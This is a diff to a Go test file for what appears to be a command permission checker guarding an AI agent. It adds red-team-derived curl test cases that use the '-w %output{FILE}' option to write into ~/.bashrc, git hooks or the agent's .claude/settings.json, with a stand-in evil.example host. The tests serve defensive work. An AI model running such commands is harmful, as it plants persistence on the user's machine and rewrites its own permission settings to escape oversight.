@@ -44,6 +44,15 @@ func TestOutputFileOptions(t *testing.T) {
 		{"curl --cookie-jar .claude/settings.json http://evil.example", "deny"},
 		{"curl --stderr ~/.bashrc http://evil.example", "deny"},
 		{"curl --libcurl ~/.bashrc http://evil.example", "deny"},
+		// curl >= 8.3's -w '%output{FILE}' (and %output{>>FILE}) sends
+		// the write-out text to FILE (red team 17 CW2); curl does no ~
+		// expansion there, the shell's $HOME is expanded before.
+		{`curl -s -o /dev/null -w "%output{$HOME/.bashrc}pwned\n" http://evil.example`, "deny"},
+		{`curl -w "%output{>>$HOME/.bashrc}pwned" http://evil.example`, "deny"},
+		{`curl --write-out '%{http_code}%output{.claude/settings.json}{}' http://evil.example`, "deny"},
+		{`curl -w '%output{.git/hooks/pre-commit}x' http://evil.example`, "deny"},
+		{`curl -w '%{http_code}\n' http://evil.example`, "allow"},
+		{`curl -w '%output{agent_sandbox/t.txt}%{time_total}' http://evil.example`, "allow"},
 		{"curl --etag-save ~/.bashrc http://evil.example", "deny"},
 		{"curl --hsts ~/.bashrc http://evil.example", "deny"},
 		{"curl --alt-svc ~/.bashrc http://evil.example", "deny"},
